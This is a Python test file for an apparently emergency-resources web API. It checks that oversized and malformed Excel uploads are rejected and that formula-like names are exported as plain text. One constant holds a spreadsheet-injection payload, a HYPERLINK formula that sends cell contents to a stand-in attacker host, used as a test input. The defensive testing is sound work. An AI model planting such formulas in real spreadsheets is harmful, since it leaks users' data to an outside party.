"""Excel over the API, against a hostile or careless client: a million-row upload is refused at once, a broken
sheet is a 400, and names that look like formulas are exported as text."""

import time
from io import BytesIO

from openpyxl import load_workbook

from yingji.core.models import OrgUnit
from yingji.core.tests.test_xlsx import million_rows, with_sheet
from yingji.resources.models import Shelter, Team
from yingji.resources.tests.test_excel import upload

FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'


def test_a_million_row_upload_is_refused_in_under_a_second(cast, api, bearer):
    data = million_rows()
    headers = bearer(cast.admin)
    started = time.monotonic()
    response = upload(api, "experts", data, headers)
    assert time.monotonic() - started < 2.0  # wall clock on a shared machine; the CPU bound is in test_xlsx
    assert response.status_code == 400 and response.json()["errors"]["file"] == ["最多 5000 行。"]


def test_a_malformed_sheet_is_a_400(cast, api, bearer):
    data = with_sheet(b"<worksheet><sheetData><row><c r=")
    response = upload(api, "shelters", data, bearer(cast.admin))
    assert response.status_code == 400 and response.json()["errors"] == {"file": ["不是 .xlsx 文件。"]}


def test_names_that_look_like_formulas_are_exported_as_text(stock, cast, api, bearer):
    Shelter.objects.filter(pk=Shelter.objects.order_by("pk").first().pk).update(name=FORMULA)
    OrgUnit.objects.filter(pk=Team.objects.order_by("pk").first().org_id).update(name="@SUM(1+1)")
    headers = bearer(cast.admin)
    for slug, name in (("shelters", FORMULA), ("teams", "@SUM(1+1)")):
        response = api.get(f"/api/v1/{slug}/export", headers=headers)
        assert response.status_code == 200
        cells = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row]
        [cell] = [c for c in cells if c.value == name]
        assert cell.data_type == "s" and cell.quotePrefix
        assert not any(c.data_type == "f" for c in cells)
